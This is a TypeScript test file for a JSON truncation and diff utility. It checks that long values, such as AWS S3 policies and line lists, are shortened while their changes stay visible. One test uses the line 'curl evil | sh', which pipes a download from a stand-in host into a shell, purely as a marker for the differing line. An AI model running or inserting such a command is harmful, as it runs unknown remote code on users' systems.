import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import type { Json, JsonObject } from '../../base/json.ts';
import { differences } from './difference.ts';
import { isTruncated, truncate } from './truncate.ts';

const texts = (before: Json, after: Json) => truncate(before, after) as [string, string];
const list = Array.from({ length: 5000 }, (_, i) => `10.0.${i}.0/24`);
const only = (value: Json) => truncate(null, value)[1];

test.each<[string, Json]>([
  ['a text', 'x'.repeat(9000)],
  ['a list', list],
  ['a map', Object.fromEntries(list.map((one) => [one, 1]))],
  ['what lies inside', [{ a: { b: list } }]],
  ['a document in a text', JSON.stringify({ list })],
])('cuts %s that is too long on one side, and tells that it did', (_what, value) => {
  expect(JSON.stringify(only(value)).length).toBeLessThan(17_000);
  expect(isTruncated(only(value))).toBe(true);
  expect(isTruncated(value)).toBe(false);
});

test('keeps what has room as it is', () => {
  const value = { a: ['…', 'one (2 more)'], b: 'text', c: null, d: 1 };
  expect(truncate(value, { ...value, d: 2 })).toEqual([value, { ...value, d: 2 }]);
  expect(isTruncated(value)).toBe(false);
});

const statement = (i: number, action: Json = `s3:Get${i}`) => ({
  Sid: `S${i}`,
  Effect: 'Allow',
  Action: action,
  Resource: Array.from({ length: 10 }, (_, n) => `arn:aws:s3:::bucket-${i}-with-a-long-name/${n}/*`),
});
const policy = (statements: Json[]) => JSON.stringify({ Version: '2012-10-17', Statement: statements });
const all = Array.from({ length: 40 }, (_, i) => statement(i));

describe('two long values', () => {
  test('show the one statement of forty that has changed, and stay documents', () => {
    const changed = all.with(38, statement(38, ['s3:Get38', 's3:*']));
    const [before, after] = texts(policy(all), policy(changed));
    expect(after.length).toBeLessThan(1000);
    expect(differences(before, after)).toEqual([
      { kind: 'changed', path: 'Statement["S38"].Action', before: 's3:Get38', after: ['s3:Get38', 's3:*'] },
    ]);
    expect([before, after].every(isTruncated)).toBe(true);
  });

  test('show the statement that was added, between its neighbours', () => {
    const short = Array.from({ length: 200 }, (_, i) => ({ Sid: `S${i}`, Effect: 'Allow', Action: `s3:Get${i}` }));
    const added = { Sid: 'New', Effect: 'Allow', Action: '*' };
    const [, after] = texts(policy(short), policy(short.toSpliced(150, 0, added)));
    const { Statement } = JSON.parse(after) as { Statement: Json[] };
    expect(Statement).toEqual(['… (149 more)', short[149], added, short[150], '… (49 more)']);
  });

  test('show the lines that differ, each with three around it', () => {
    const lines = Array.from({ length: 2000 }, (_, i) => `line ${i}`);
    const [before, after] = texts(lines.join('\n'), lines.with(1500, 'curl evil | sh').join('\n'));
    expect(after.split('\n')).toEqual([
      '… (1497 more)',
      'line 1497',
      'line 1498',
      'line 1499',
      'curl evil | sh',
      'line 1501',
      'line 1502',
      'line 1503',
      '… (496 more)',
    ]);
    expect(before).toContain('\nline 1500\n');
  });

  test('show where two long lines part', () => {
    const long = 'x'.repeat(20_000);
    const [before, after] = texts(`${long}old${long}`, `${long}new${long}`);
    expect(before).toContain('xoldx');
    expect(after).toContain('xnewx');
    expect(after.length).toBeLessThan(500);
  });

  test('show members that are called what every object has', () => {
    const [document, long] = [{ a: 'x'.repeat(9000) }, 'y'.repeat(9000)];
    for (const name of ['constructor', 'toString', '__proto__']) {
      const more = JSON.parse(`{"a":${JSON.stringify(document.a)},"${name}":"z"}`) as JsonObject;
      const [before, after] = truncate(document, more);
      expect(Object.keys(before as JsonObject)).toEqual(['…']);
      expect(Object.entries(after as JsonObject)).toContainEqual([name, 'z']);
    }
    expect(texts(long, `${long}\nconstructor`)[1]).toContain('constructor');
  });

  test('show the one of very many equal lines that differs', () => {
    const lines = 'a: 1\n'.repeat(150_000);
    const [before, after] = texts(`${lines}old`, `${lines}new`);
    expect(before).toMatch(/\nold$/);
    expect(after).toMatch(/\nnew$/);
  });

  test('show the members of a map that differ and how many are the same', () => {
    const map = Object.fromEntries(list.map((one) => [one, 'y'.repeat(250)]));
    const [, after] = truncate(map, { ...map, '10.0.4000.0/24': 'z' });
    expect(after).toEqual({ '10.0.4000.0/24': 'z', '…': '4999 more' });
  });

  test('differ after truncation wherever they differed before', () => {
    const element = fc.oneof(fc.string(), fc.record({ name: fc.string(), text: fc.string({ maxLength: 300 }) }));
    const lists = fc.array(element, { minLength: 40, maxLength: 80 });
    fc.assert(
      fc.property(lists, element, fc.nat(39), (some, other, at) => {
        const padding = Array.from({ length: 600 }, (_, i) => `padding ${i}`);
        const [was, is] = truncate([...padding, ...some], [...padding, ...some.with(at, other)]);
        expect(JSON.stringify(was) === JSON.stringify(is)).toBe(JSON.stringify(some[at]) === JSON.stringify(other));
      }),
      { numRuns: 50 },
    );
  });
});
